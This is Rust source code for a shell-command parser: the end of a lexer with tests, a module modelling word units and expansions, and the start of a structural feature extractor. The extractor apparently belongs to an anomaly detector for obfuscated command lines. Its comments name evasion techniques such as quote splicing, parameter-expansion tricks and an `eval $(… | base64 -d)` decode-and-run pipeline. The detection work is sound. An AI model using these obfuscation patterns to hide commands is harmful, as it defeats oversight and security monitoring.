                            self.pos += 1;
                        }
                    }
                }
                '`' => {
                    saw_plain = true;
                    let sub_start = self.pos;
                    text.push('`');
                    self.pos += 1;
                    loop {
                        match self.bump() {
                            Some('`') => {
                                text.push('`');
                                break;
                            }
                            Some(ch) => text.push(ch),
                            None => {
                                return Err(LexError::UnterminatedSubstitution { at: sub_start })
                            }
                        }
                    }
                    flush(&mut lit, &mut units);
                    let body: String = self.chars[sub_start + 1..self.pos - 1].iter().collect();
                    units.push(WordUnit::Backquoted(Substitution::raw(body)));
                }
                other => {
                    saw_plain = true;
                    text.push(other);
                    lit.push(other);
                    self.pos += 1;
                }
            }
        }

        flush(&mut lit, &mut units);
        let raw: String = self.chars[start..self.pos].iter().collect();
        let quoting = if !saw_quote {
            Quoting::None
        } else if saw_plain {
            Quoting::Mixed
        } else {
            quote_style
        };
        Ok(Word {
            text,
            raw,
            quoting,
            units,
        })
    }

    /// Consumes input until `closer` is found at nesting depth zero,
    /// respecting nested parens/braces and quotes.
    fn consume_until_balanced(&mut self, closer: char, start: usize) -> Result<(), LexError> {
        let opener = match closer {
            ')' => '(',
            '}' => '{',
            _ => unreachable!("only paren and brace groups are consumed"),
        };
        let mut depth = 1usize;
        while let Some(c) = self.bump() {
            match c {
                c if c == opener => depth += 1,
                c if c == closer => {
                    depth -= 1;
                    if depth == 0 {
                        return Ok(());
                    }
                }
                '\'' => loop {
                    match self.bump() {
                        Some('\'') => break,
                        Some(_) => {}
                        None => return Err(LexError::UnterminatedSubstitution { at: start }),
                    }
                },
                '"' => loop {
                    match self.bump() {
                        Some('"') => break,
                        Some('\\') => {
                            self.bump();
                        }
                        Some(_) => {}
                        None => return Err(LexError::UnterminatedSubstitution { at: start }),
                    }
                },
                '\\' => {
                    self.bump();
                }
                _ => {}
            }
        }
        Err(LexError::UnterminatedSubstitution { at: start })
    }
}

fn merge_quote(current: Quoting, new: Quoting, saw_plain: bool) -> Quoting {
    match (current, saw_plain) {
        (Quoting::None, false) => new,
        (q, _) if q == new => q,
        _ => Quoting::Mixed,
    }
}

fn unescape_ansi_c(c: char) -> char {
    match c {
        'n' => '\n',
        't' => '\t',
        'r' => '\r',
        '0' => '\0',
        'a' => '\x07',
        'b' => '\x08',
        'f' => '\x0c',
        'v' => '\x0b',
        other => other,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::word::ParamModifier;

    fn words(input: &str) -> Vec<String> {
        Lexer::tokenize(input)
            .unwrap()
            .into_iter()
            .filter_map(|t| t.as_word().map(|w| w.text.clone()))
            .collect()
    }

    fn ops(input: &str) -> Vec<Operator> {
        Lexer::tokenize(input)
            .unwrap()
            .into_iter()
            .filter_map(|t| t.as_op())
            .collect()
    }

    fn word_units(input: &str) -> Vec<WordUnit> {
        let tokens = Lexer::tokenize(input).unwrap();
        tokens
            .iter()
            .find_map(|t| t.as_word())
            .map(|w| w.units.clone())
            .unwrap_or_default()
    }

    #[test]
    fn simple_words() {
        assert_eq!(words("ls -la /tmp"), vec!["ls", "-la", "/tmp"]);
    }

    #[test]
    fn pipeline_operators() {
        assert_eq!(
            ops("df -h | grep x || true && false"),
            vec![Operator::Pipe, Operator::OrIf, Operator::AndIf]
        );
    }

    #[test]
    fn single_quotes_preserve_everything() {
        assert_eq!(words("echo 'a | b > c'"), vec!["echo", "a | b > c"]);
    }

    #[test]
    fn double_quotes_resolve_escapes() {
        assert_eq!(words(r#"echo "a\"b" "#), vec!["echo", "a\"b"]);
        // Backslash before a non-special char stays literal.
        assert_eq!(words(r#"echo "a\nb""#), vec!["echo", "a\\nb"]);
    }

    #[test]
    fn backslash_escapes_outside_quotes() {
        assert_eq!(words(r"echo a\ b"), vec!["echo", "a b"]);
    }

    #[test]
    fn php_example_from_paper() {
        // php -r "phpinfo();"
        let w = words(r#"php -r "phpinfo();""#);
        assert_eq!(w, vec!["php", "-r", "phpinfo();"]);
    }

    #[test]
    fn io_number_redirect() {
        let tokens = Lexer::tokenize("cmd 2>/dev/null").unwrap();
        assert_eq!(tokens[1], Token::IoNumber(2));
        assert_eq!(tokens[2], Token::Op(Operator::Great));
    }

    #[test]
    fn numeric_word_is_not_io_number() {
        let tokens = Lexer::tokenize("sleep 10").unwrap();
        assert_eq!(tokens[1].as_word().unwrap().text, "10");
    }

    #[test]
    fn heredoc_and_herestring_operators() {
        assert_eq!(ops("cat << EOF"), vec![Operator::DLess]);
        assert_eq!(ops("cat <<< hi"), vec![Operator::TLess]);
        assert_eq!(ops("cat <<- EOF"), vec![Operator::DLessDash]);
    }

    #[test]
    fn heredoc_body_is_collected_after_newline() {
        let tokens = Lexer::tokenize("cat << EOF\nhello\nworld\nEOF").unwrap();
        assert!(tokens.contains(&Token::Newline));
        assert!(tokens.contains(&Token::HeredocBody("hello\nworld\n".into())));
    }

    #[test]
    fn heredoc_dash_strips_leading_tabs() {
        let tokens = Lexer::tokenize("cat <<- EOF\n\thello\n\tEOF").unwrap();
        assert!(tokens.contains(&Token::HeredocBody("hello\n".into())));
    }

    #[test]
    fn two_heredocs_collect_in_order() {
        let tokens = Lexer::tokenize("cat <<A <<B\none\nA\ntwo\nB").unwrap();
        let bodies: Vec<&str> = tokens
            .iter()
            .filter_map(|t| match t {
                Token::HeredocBody(b) => Some(b.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(bodies, vec!["one\n", "two\n"]);
    }

    #[test]
    fn newline_separates_commands() {
        let tokens = Lexer::tokenize("ls\npwd").unwrap();
        assert_eq!(tokens[1], Token::Newline);
        assert_eq!(tokens.len(), 3);
    }

    #[test]
    fn command_substitution_kept_in_word() {
        let w = words("echo $(date +%s)");
        assert_eq!(w, vec!["echo", "$(date +%s)"]);
    }

    #[test]
    fn command_substitution_unit_captures_body() {
        let units = word_units("echo $(date +%s)");
        // the `echo` word is found first, so look at the second token
        let tokens = Lexer::tokenize("echo $(date +%s)").unwrap();
        let w = tokens[1].as_word().unwrap();
        assert_eq!(
            w.units,
            vec![WordUnit::CommandSubst(Substitution::raw("date +%s"))]
        );
        assert_eq!(units, vec![WordUnit::Literal("echo".into())]);
    }

    #[test]
    fn nested_command_substitution() {
        let w = words("echo $(echo $(date))");
        assert_eq!(w[1], "$(echo $(date))");
    }

    #[test]
    fn arithmetic_expansion_unit() {
        let tokens = Lexer::tokenize("echo $((1+2))").unwrap();
        let w = tokens[1].as_word().unwrap();
        assert_eq!(w.units, vec![WordUnit::Arith("1+2".into())]);
        assert_eq!(w.text, "$((1+2))");
    }

    #[test]
    fn process_substitution_is_word() {
        let w = words("diff <(ls a) <(ls b)");
        assert_eq!(w, vec!["diff", "<(ls a)", "<(ls b)"]);
        let tokens = Lexer::tokenize("diff <(ls a) >(ls b)").unwrap();
        assert!(matches!(
            &tokens[1].as_word().unwrap().units[0],
            WordUnit::ProcessSubst {
                direction: SubstDirection::In,
                ..
            }
        ));
        assert!(matches!(
            &tokens[2].as_word().unwrap().units[0],
            WordUnit::ProcessSubst {
                direction: SubstDirection::Out,
                ..
            }
        ));
    }

    #[test]
    fn parameter_expansion_kept() {
        assert_eq!(words("echo ${HOME}/x"), vec!["echo", "${HOME}/x"]);
        assert_eq!(words("echo $HOME"), vec!["echo", "$HOME"]);
    }

    #[test]
    fn parameter_expansion_units() {
        let tokens = Lexer::tokenize("echo ${v:-fallback}/x $HOME").unwrap();
        let w = tokens[1].as_word().unwrap();
        assert_eq!(w.units.len(), 2);
        assert!(matches!(
            &w.units[0],
            WordUnit::Param(p) if p.name == "v"
                && p.modifier == Some(ParamModifier::Default("fallback".into()))
        ));
        assert_eq!(w.units[1], WordUnit::Literal("/x".into()));
        let home = tokens[2].as_word().unwrap();
        assert!(matches!(
            &home.units[0],
            WordUnit::Param(p) if p.name == "HOME" && !p.braced
        ));
    }

    #[test]
    fn tilde_prefix_unit() {
        let tokens = Lexer::tokenize("ls ~root/x").unwrap();
        let w = tokens[1].as_word().unwrap();
        assert_eq!(w.units[0], WordUnit::Tilde("root".into()));
        assert_eq!(w.text, "~root/x");
        // mid-word tilde is literal
        let tokens = Lexer::tokenize("echo a~b").unwrap();
        assert_eq!(
            tokens[1].as_word().unwrap().units,
            vec![WordUnit::Literal("a~b".into())]
        );
    }

    #[test]
    fn backquote_substitution() {
        assert_eq!(words("echo `date`"), vec!["echo", "`date`"]);
        let tokens = Lexer::tokenize("echo `date`").unwrap();
        assert_eq!(
            tokens[1].as_word().unwrap().units,
            vec![WordUnit::Backquoted(Substitution::raw("date"))]
        );
    }

    #[test]
    fn double_quoted_units_keep_expansions_live() {
        let tokens = Lexer::tokenize(r#"echo "have $(id) now""#).unwrap();
        let w = tokens[1].as_word().unwrap();
        let WordUnit::DoubleQuoted(inner) = &w.units[0] else {
            panic!("expected double-quoted unit, got {:?}", w.units);
        };
        assert!(inner
            .iter()
            .any(|u| matches!(u, WordUnit::CommandSubst(s) if s.body == "id")));
    }

    #[test]
    fn comment_terminates_lexing() {
        assert_eq!(words("ls # trailing comment"), vec!["ls"]);
    }

    #[test]
    fn comment_runs_to_newline_only() {
        let tokens = Lexer::tokenize("ls # note\npwd").unwrap();
        let ws: Vec<&str> = tokens
            .iter()
            .filter_map(|t| t.as_word().map(|w| w.text.as_str()))
            .collect();
        assert_eq!(ws, vec!["ls", "pwd"]);
    }

    #[test]
    fn unterminated_single_quote_errors() {
        assert!(matches!(
            Lexer::tokenize("echo 'oops"),
            Err(LexError::UnterminatedQuote { quote: '\'', .. })
        ));
    }

    #[test]
    fn unterminated_double_quote_errors() {
        assert!(matches!(
            Lexer::tokenize("echo \"oops"),
            Err(LexError::UnterminatedQuote { quote: '"', .. })
        ));
    }

    #[test]
    fn trailing_backslash_errors() {
        assert_eq!(
            Lexer::tokenize("echo a\\"),
            Err(LexError::TrailingBackslash)
        );
    }

    #[test]
    fn unterminated_substitution_errors() {
        assert!(matches!(
            Lexer::tokenize("echo $(date"),
            Err(LexError::UnterminatedSubstitution { .. })
        ));
    }

    #[test]
    fn dash_then_redirect_splits() {
        // `->` is a dash word followed by `>` — the lexing behind the
        // paper's invalid-redirection example.
        let tokens = Lexer::tokenize("a -> b").unwrap();
        assert_eq!(tokens[1].as_word().unwrap().text, "-");
        assert_eq!(tokens[2], Token::Op(Operator::Great));
    }

    #[test]
    fn ansi_c_quoting() {
        assert_eq!(words(r"echo $'a\tb'"), vec!["echo", "a\tb"]);
        let tokens = Lexer::tokenize(r"echo $'a\tb'").unwrap();
        assert_eq!(
            tokens[1].as_word().unwrap().units,
            vec![WordUnit::AnsiCQuoted("a\tb".into())]
        );
    }

    #[test]
    fn quoting_classification() {
        let t = Lexer::tokenize("echo 'x' \"y\" z'w'").unwrap();
        assert_eq!(t[1].as_word().unwrap().quoting, Quoting::Single);
        assert_eq!(t[2].as_word().unwrap().quoting, Quoting::Double);
        assert_eq!(t[3].as_word().unwrap().quoting, Quoting::Mixed);
    }

    #[test]
    fn mixed_word_units_in_order() {
        let t = Lexer::tokenize("echo z'w'\"q\"").unwrap();
        assert_eq!(
            t[1].as_word().unwrap().units,
            vec![
                WordUnit::Literal("z".into()),
                WordUnit::SingleQuoted("w".into()),
                WordUnit::DoubleQuoted(vec![WordUnit::Literal("q".into())]),
            ]
        );
    }

    #[test]
    fn empty_input_yields_no_tokens() {
        assert!(Lexer::tokenize("").unwrap().is_empty());
        assert!(Lexer::tokenize("   \t ").unwrap().is_empty());
        assert!(Lexer::tokenize("# only a comment").unwrap().is_empty());
    }

    #[test]
    fn pipe_amp_and_clobber() {
        assert_eq!(ops("a |& b"), vec![Operator::PipeAmp]);
        assert_eq!(ops("a >| f"), vec![Operator::Clobber]);
    }

    #[test]
    fn subshell_parens_are_operators() {
        assert_eq!(ops("(ls)"), vec![Operator::LParen, Operator::RParen]);
    }
}
