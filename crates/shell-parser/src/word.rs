//! The syntax/word layer: the recursive structure *inside* one word.
//!
//! The lexer layer (`crate::lexer`) splits a line into tokens; this
//! module models what a single word token is made of, following the
//! yash-syntax layering: a [`Word`](crate::Word) is a sequence of
//! [`WordUnit`]s — literal runs, quoted segments, parameter expansions
//! with their modifiers, arithmetic, command/process substitutions and
//! tildes. Substitution bodies are captured raw by the lexer; the
//! command layer (`crate::parser`) recursively parses them into
//! [`Script`]s after the surrounding line has parsed, keeping each
//! layer's job single-purpose.

use crate::ast::Script;
use serde::{Deserialize, Serialize};

/// One structural component of a word.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum WordUnit {
    /// An unquoted literal run with backslash escapes resolved.
    Literal(String),
    /// A `'…'` segment (content verbatim).
    SingleQuoted(String),
    /// A `"…"` segment; the content is itself a unit sequence because
    /// `$…` expansions and backquotes stay live inside double quotes.
    DoubleQuoted(Vec<WordUnit>),
    /// A `$'…'` ANSI-C segment with escapes resolved.
    AnsiCQuoted(String),
    /// A `~` or `~user` at the start of a word.
    Tilde(String),
    /// A `$name` / `${name…}` parameter expansion.
    Param(ParamExpansion),
    /// A `$(…)` command substitution.
    CommandSubst(Substitution),
    /// A `` `…` `` backquote substitution.
    Backquoted(Substitution),
    /// A `$((…))` arithmetic expansion (expression text kept opaque).
    Arith(String),
    /// A `<(…)` / `>(…)` process substitution.
    ProcessSubst {
        /// Which side of the command the substitution feeds.
        direction: SubstDirection,
        /// The substituted command.
        subst: Substitution,
    },
}

/// Direction of a process substitution.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum SubstDirection {
    /// `<(…)` — the command's output is read.
    In,
    /// `>(…)` — the command's input is written.
    Out,
}

/// A captured substitution body plus its parse, when the command layer
/// managed one (inner parse failures and over-deep nesting leave
/// `script` as `None` without invalidating the surrounding line).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Substitution {
    /// Raw text between the substitution delimiters.
    pub body: String,
    /// The recursively parsed body, filled by the command layer.
    pub script: Option<Box<Script>>,
}

impl Substitution {
    /// A substitution whose body has not been parsed (yet).
    pub fn raw(body: impl Into<String>) -> Self {
        Substitution {
            body: body.into(),
            script: None,
        }
    }
}

/// A parameter expansion: `$v`, `${v}`, `${v:-default}`, `${v##pat}`, …
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ParamExpansion {
    /// The parameter name (or special parameter such as `?`, `#`, `@`).
    pub name: String,
    /// Whether the expansion was written `${…}`.
    pub braced: bool,
    /// The modifier after the name, if any.
    pub modifier: Option<ParamModifier>,
}

/// The modifier of a braced parameter expansion.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum ParamModifier {
    /// `${v:-w}` / `${v-w}` — default value.
    Default(String),
    /// `${v:=w}` / `${v=w}` — assign default.
    Assign(String),
    /// `${v:?w}` / `${v?w}` — error if unset.
    ErrorIfUnset(String),
    /// `${v:+w}` / `${v+w}` — alternative value.
    Alternative(String),
    /// `${v#pat}` / `${v##pat}` — remove matching prefix.
    RemovePrefix {
        /// `true` for `##` (longest match).
        longest: bool,
        /// The pattern.
        pattern: String,
    },
    /// `${v%pat}` / `${v%%pat}` — remove matching suffix.
    RemoveSuffix {
        /// `true` for `%%` (longest match).
        longest: bool,
        /// The pattern.
        pattern: String,
    },
    /// `${v/pat/repl}` / `${v//pat/repl}` — pattern replacement.
    Replace {
        /// `true` for `//` (replace all).
        all: bool,
        /// The pattern.
        pattern: String,
        /// The replacement.
        replacement: String,
    },
    /// `${v:off}` / `${v:off:len}` — substring.
    Substring(String),
    /// `${#v}` — length.
    Length,
    /// `${!v}` — indirection.
    Indirect,
    /// `${v^pat}` / `${v,,}` … — case modification.
    CaseMod(String),
    /// Anything this parser does not model further (kept verbatim so
    /// nothing errors).
    Other(String),
}

/// Parses the text between `${` and `}` into a [`ParamExpansion`].
///
/// This is total: unknown shapes land in [`ParamModifier::Other`], so
/// the word layer never rejects a brace expansion the lexer balanced.
pub fn parse_param_body(inner: &str) -> ParamExpansion {
    if let Some(name) = inner.strip_prefix('#') {
        if !name.is_empty() {
            return ParamExpansion {
                name: name.to_string(),
                braced: true,
                modifier: Some(ParamModifier::Length),
            };
        }
    }
    if let Some(name) = inner.strip_prefix('!') {
        if !name.is_empty() && name.chars().all(is_name_char) {
            return ParamExpansion {
                name: name.to_string(),
                braced: true,
                modifier: Some(ParamModifier::Indirect),
            };
        }
    }
    let name_len = inner.chars().take_while(|&c| is_name_char(c)).count();
    let name_len = if name_len == 0 && !inner.is_empty() {
        1 // special parameter: `${?}`, `${@}`, …
    } else {
        name_len
    };
    let name: String = inner.chars().take(name_len).collect();
    let rest: String = inner.chars().skip(name_len).collect();
    let modifier = if rest.is_empty() {
        None
    } else {
        Some(parse_modifier(&rest))
    };
    ParamExpansion {
        name,
        braced: true,
        modifier,
    }
}

fn parse_modifier(rest: &str) -> ParamModifier {
    if let Some(w) = rest.strip_prefix(":-").or_else(|| rest.strip_prefix('-')) {
        return ParamModifier::Default(w.to_string());
    }
    if let Some(w) = rest.strip_prefix(":=").or_else(|| rest.strip_prefix('=')) {
        return ParamModifier::Assign(w.to_string());
    }
    if let Some(w) = rest.strip_prefix(":?").or_else(|| rest.strip_prefix('?')) {
        return ParamModifier::ErrorIfUnset(w.to_string());
    }
    if let Some(w) = rest.strip_prefix(":+").or_else(|| rest.strip_prefix('+')) {
        return ParamModifier::Alternative(w.to_string());
    }
    if let Some(p) = rest.strip_prefix("##") {
        return ParamModifier::RemovePrefix {
            longest: true,
            pattern: p.to_string(),
        };
    }
    if let Some(p) = rest.strip_prefix('#') {
        return ParamModifier::RemovePrefix {
            longest: false,
            pattern: p.to_string(),
        };
    }
    if let Some(p) = rest.strip_prefix("%%") {
        return ParamModifier::RemoveSuffix {
            longest: true,
            pattern: p.to_string(),
        };
    }
    if let Some(p) = rest.strip_prefix('%') {
        return ParamModifier::RemoveSuffix {
            longest: false,
            pattern: p.to_string(),
        };
    }
    if let Some(p) = rest.strip_prefix("//") {
        let (pattern, replacement) = split_replacement(p);
        return ParamModifier::Replace {
            all: true,
            pattern,
            replacement,
        };
    }
    if let Some(p) = rest.strip_prefix('/') {
        let (pattern, replacement) = split_replacement(p);
        return ParamModifier::Replace {
            all: false,
            pattern,
            replacement,
        };
    }
    if let Some(s) = rest.strip_prefix(':') {
        return ParamModifier::Substring(s.to_string());
    }
    if rest.starts_with('^') || rest.starts_with(',') {
        return ParamModifier::CaseMod(rest.to_string());
    }
    ParamModifier::Other(rest.to_string())
}

fn split_replacement(p: &str) -> (String, String) {
    match p.split_once('/') {
        Some((pat, repl)) => (pat.to_string(), repl.to_string()),
        None => (p.to_string(), String::new()),
    }
}

/// `true` for characters a parameter name is made of.
pub fn is_name_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}

/// Scans double-quoted content (raw, escapes unresolved) into units:
/// `$…` expansions and backquotes stay live inside `"…"`; everything
/// else is literal. Lenient by construction — an unterminated inner
/// construct is literal text, exactly as Bash treats `"$(x"`.
pub fn scan_double_quoted_units(raw: &str) -> Vec<WordUnit> {
    let chars: Vec<char> = raw.chars().collect();
    let mut units = Vec::new();
    let mut lit = String::new();
    let mut i = 0;
    while i < chars.len() {
        match chars[i] {
            '\\' => {
                lit.push(chars[i]);
                if i + 1 < chars.len() {
                    lit.push(chars[i + 1]);
                    i += 2;
                } else {
                    i += 1;
                }
            }
            '`' => match find_backquote_end(&chars, i + 1) {
                Some(end) => {
                    flush(&mut lit, &mut units);
                    let body: String = chars[i + 1..end].iter().collect();
                    units.push(WordUnit::Backquoted(Substitution::raw(body)));
                    i = end + 1;
                }
                None => {
                    lit.push('`');
                    i += 1;
                }
            },
            '$' => {
                if let Some((unit, next)) = scan_dollar(&chars, i) {
                    flush(&mut lit, &mut units);
                    units.push(unit);
                    i = next;
                } else {
                    lit.push('$');
                    i += 1;
                }
            }
            c => {
                lit.push(c);
                i += 1;
            }
        }
    }
    flush(&mut lit, &mut units);
    units
}

fn flush(lit: &mut String, units: &mut Vec<WordUnit>) {
    if !lit.is_empty() {
        units.push(WordUnit::Literal(std::mem::take(lit)));
    }
}

/// Scans a `$…` construct starting at `chars[at] == '$'`; returns the
/// unit and the index after it, or `None` for a literal dollar.
fn scan_dollar(chars: &[char], at: usize) -> Option<(WordUnit, usize)> {
    match chars.get(at + 1) {
        Some('(') => {
            let end = find_balanced(chars, at + 2, '(', ')')?;
            let raw: String = chars[at..=end].iter().collect();
            if let Some(expr) = raw.strip_prefix("$((").and_then(|r| r.strip_suffix("))")) {
                Some((WordUnit::Arith(expr.to_string()), end + 1))
            } else {
                let body: String = chars[at + 2..end].iter().collect();
                Some((WordUnit::CommandSubst(Substitution::raw(body)), end + 1))
            }
        }
        Some('{') => {
            let end = find_balanced(chars, at + 2, '{', '}')?;
            let body: String = chars[at + 2..end].iter().collect();
            Some((WordUnit::Param(parse_param_body(&body)), end + 1))
        }
        Some(&c) if is_name_char(c) && !c.is_ascii_digit() => {
            let mut end = at + 1;
            while end < chars.len() && is_name_char(chars[end]) {
                end += 1;
            }
            let name: String = chars[at + 1..end].iter().collect();
            Some((
                WordUnit::Param(ParamExpansion {
                    name,
                    braced: false,
                    modifier: None,
                }),
                end,
            ))
        }
        Some(&c) if matches!(c, '?' | '$' | '!' | '#' | '@' | '*' | '-' | '0'..='9') => Some((
            WordUnit::Param(ParamExpansion {
                name: c.to_string(),
                braced: false,
                modifier: None,
            }),
            at + 2,
        )),
        _ => None,
    }
}

/// Finds the index of the closer matching nesting that began before
/// `from`, skipping quoted stretches; `None` when unbalanced.
fn find_balanced(chars: &[char], from: usize, opener: char, closer: char) -> Option<usize> {
    let mut depth = 1usize;
    let mut i = from;
    while i < chars.len() {
        let c = chars[i];
        if c == opener {
            depth += 1;
        } else if c == closer {
            depth -= 1;
            if depth == 0 {
                return Some(i);
            }
        } else if c == '\\' {
            i += 1;
        } else if c == '\'' {
            i += 1;
            while i < chars.len() && chars[i] != '\'' {
                i += 1;
            }
        } else if c == '"' {
            i += 1;
            while i < chars.len() && chars[i] != '"' {
                if chars[i] == '\\' {
                    i += 1;
                }
                i += 1;
            }
        }
        i += 1;
    }
    None
}

fn find_backquote_end(chars: &[char], from: usize) -> Option<usize> {
    let mut i = from;
    while i < chars.len() {
        match chars[i] {
            '`' => return Some(i),
            '\\' => i += 2,
            _ => i += 1,
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn param_default_modifier() {
        let p = parse_param_body("HOME:-/root");
        assert_eq!(p.name, "HOME");
        assert!(p.braced);
        assert_eq!(p.modifier, Some(ParamModifier::Default("/root".into())));
    }

    #[test]
    fn param_unspaced_dash_modifier() {
        let p = parse_param_body("v-fallback");
        assert_eq!(p.modifier, Some(ParamModifier::Default("fallback".into())));
    }

    #[test]
    fn param_remove_prefix_longest() {
        let p = parse_param_body("path##*/");
        assert_eq!(
            p.modifier,
            Some(ParamModifier::RemovePrefix {
                longest: true,
                pattern: "*/".into()
            })
        );
    }

    #[test]
    fn param_remove_suffix_shortest() {
        let p = parse_param_body("f%.txt");
        assert_eq!(
            p.modifier,
            Some(ParamModifier::RemoveSuffix {
                longest: false,
                pattern: ".txt".into()
            })
        );
    }

    #[test]
    fn param_replace_all() {
        let p = parse_param_body("v//a/b");
        assert_eq!(
            p.modifier,
            Some(ParamModifier::Replace {
                all: true,
                pattern: "a".into(),
                replacement: "b".into()
            })
        );
    }

    #[test]
    fn param_replace_without_replacement() {
        let p = parse_param_body("v/x");
        assert_eq!(
            p.modifier,
            Some(ParamModifier::Replace {
                all: false,
                pattern: "x".into(),
                replacement: String::new()
            })
        );
    }

    #[test]
    fn param_length_and_indirect() {
        assert_eq!(parse_param_body("#v").modifier, Some(ParamModifier::Length));
        assert_eq!(
            parse_param_body("!v").modifier,
            Some(ParamModifier::Indirect)
        );
    }

    #[test]
    fn param_substring() {
        assert_eq!(
            parse_param_body("v:1:3").modifier,
            Some(ParamModifier::Substring("1:3".into()))
        );
    }

    #[test]
    fn param_special_name() {
        let p = parse_param_body("?");
        assert_eq!(p.name, "?");
        assert_eq!(p.modifier, None);
    }

    #[test]
    fn double_quoted_scan_finds_expansions() {
        let units = scan_double_quoted_units("pre $(date) ${v:-x} $HOME `id` post");
        let params = units
            .iter()
            .filter(|u| matches!(u, WordUnit::Param(_)))
            .count();
        let substs = units
            .iter()
            .filter(|u| matches!(u, WordUnit::CommandSubst(_) | WordUnit::Backquoted(_)))
            .count();
        assert_eq!(params, 2);
        assert_eq!(substs, 2);
        assert!(matches!(&units[0], WordUnit::Literal(l) if l == "pre "));
    }

    #[test]
    fn double_quoted_scan_is_lenient_on_unterminated() {
        // `"$(x"` — the dollar construct never closes; Bash treats the
        // content literally and so do we.
        let units = scan_double_quoted_units("$(x");
        assert_eq!(units, vec![WordUnit::Literal("$(x".into())]);
    }

    #[test]
    fn double_quoted_scan_arith() {
        let units = scan_double_quoted_units("$((1+2))");
        assert_eq!(units, vec![WordUnit::Arith("1+2".into())]);
    }

    #[test]
    fn escaped_dollar_stays_literal() {
        let units = scan_double_quoted_units(r"\$HOME");
        assert_eq!(units, vec![WordUnit::Literal(r"\$HOME".into())]);
    }
}
