//! Structural feature extraction over the parsed AST.
//!
//! The anomaly ensemble's structural side-channel detector does not look
//! at token embeddings at all: it scores each command line by a fixed
//! [`STRUCTURAL_DIM`]-dimensional vector of syntax-shape statistics
//! derived from the full parse tree — pipeline fan-out, expansion and
//! substitution counts, nesting depth, quoting overhead, suspicious
//! redirect targets. Obfuscation techniques that leave the token stream
//! innocuous (quote splicing, `${v:-n}` expansion tricks, base64 decode
//! pipelines) tend to *inflate* exactly these statistics, which is what
//! makes the vector a useful complement to the LM-based detectors.

use crate::ast::{Command, Redirect, RedirectOp, Script};
use crate::validate::{classify, LineClass};
use crate::word::WordUnit;

/// Number of entries in a structural feature vector.
pub const STRUCTURAL_DIM: usize = 18;

/// Human-readable names for each feature index, for reports and debugging.
pub const FEATURE_NAMES: [&str; STRUCTURAL_DIM] = [
    "simple_commands",
    "max_pipeline_len",
    "and_or_connectors",
    "background_lists",
    "redirects",
    "suspicious_redirect_targets",
    "heredoc_herestrings",
    "param_expansions",
    "param_modifiers",
    "substitutions",
    "max_subst_depth",
    "arith_expansions",
    "quote_removal_delta",
    "quoted_words",
    "spliced_words",
    "compound_commands",
    "assignments",
    "parse_failed",
];

#[derive(Default)]
struct Acc {
    simple: u32,
    max_pipe: u32,
    connectors: u32,
    background: u32,
    redirects: u32,
    suspicious_targets: u32,
    heredocs: u32,
    params: u32,
    param_mods: u32,
    substs: u32,
    max_depth: u32,
    ariths: u32,
    quote_delta: u32,
    quoted_words: u32,
    spliced_words: u32,
    compounds: u32,
    assignments: u32,
}

/// Extracts the structural feature vector of a parsed script.
///
/// The walk is *deep*: it descends into subshells, brace groups,
/// compound-command bodies and recursively parsed substitution scripts,
/// so `eval $(echo x | base64 -d)` contributes the inner pipeline's
/// statistics as well.
pub fn script_features(script: &Script) -> [f32; STRUCTURAL_DIM] {
    let mut acc = Acc::default();
    walk_script(script, 0, &mut acc);
    [
        acc.simple as f32,
        acc.max_pipe as f32,
        acc.connectors as f32,
        acc.background as f32,
        acc.redirects as f32,
        acc.suspicious_targets as f32,
        acc.heredocs as f32,
        acc.params as f32,
        acc.param_mods as f32,
        acc.substs as f32,
        acc.max_depth as f32,
        acc.ariths as f32,
        acc.quote_delta as f32,
        acc.quoted_words as f32,
        acc.spliced_words as f32,
        acc.compounds as f32,
        acc.assignments as f32,
        0.0,
    ]
}

/// Extracts structural features straight from a raw command line.
///
/// Invalid lines (the class the paper's validity filter would drop, but
/// which still reach the detector at test time) yield a vector that is
/// zero everywhere except the final `parse_failed` flag; empty lines
/// yield all zeros.
pub fn line_features(line: &str) -> [f32; STRUCTURAL_DIM] {
    match classify(line) {
        LineClass::Valid(script) => script_features(&script),
        LineClass::Empty => [0.0; STRUCTURAL_DIM],
        LineClass::Invalid(_) => parse_failed_vector(),
    }
}

fn parse_failed_vector() -> [f32; STRUCTURAL_DIM] {
    let mut v = [0.0; STRUCTURAL_DIM];
    v[STRUCTURAL_DIM - 1] = 1.0;
    v
}

fn walk_script(script: &Script, depth: u32, acc: &mut Acc) {
    for list in &script.lists {
        if list.background {
            acc.background += 1;
        }
        acc.connectors += list.rest.len() as u32;
        walk_pipeline(&list.first, depth, acc);
        for (_, p) in &list.rest {
            walk_pipeline(p, depth, acc);
        }
    }
}

fn walk_pipeline(p: &crate::ast::Pipeline, depth: u32, acc: &mut Acc) {
    acc.max_pipe = acc.max_pipe.max(p.commands.len() as u32);
    for cmd in &p.commands {
        walk_command(cmd, depth, acc);
    }
}

fn walk_command(cmd: &Command, depth: u32, acc: &mut Acc) {
    match cmd {
        Command::Simple(c) => {
            acc.simple += 1;
            acc.assignments += c.assignments.len() as u32;
            for a in &c.assignments {
                walk_units(&a.units, depth, acc);
            }
            for w in &c.words {
                let raw_len = w.raw.chars().count() as u32;
                let text_len = w.text.chars().count() as u32;
                acc.quote_delta += raw_len.saturating_sub(text_len);
                if w.raw != w.text {
                    acc.quoted_words += 1;
                }
                if is_spliced(&w.units) {
                    acc.spliced_words += 1;
                }
                walk_units(&w.units, depth, acc);
            }
            for r in &c.redirects {
                walk_redirect(r, depth, acc);
            }
        }
        Command::Subshell(inner) | Command::Group(inner) => {
            acc.compounds += 1;
            walk_script(inner, depth, acc);
        }
        Command::For(f) => {
            acc.compounds += 1;
            if let Some(words) = &f.words {
                for w in words {
                    walk_units(&w.units, depth, acc);
                }
            }
            walk_script(&f.body, depth, acc);
        }
        Command::While(l) => {
            acc.compounds += 1;
            walk_script(&l.condition, depth, acc);
            walk_script(&l.body, depth, acc);
        }
        Command::If(i) => {
            acc.compounds += 1;
            for (cond, body) in &i.branches {
                walk_script(cond, depth, acc);
                walk_script(body, depth, acc);
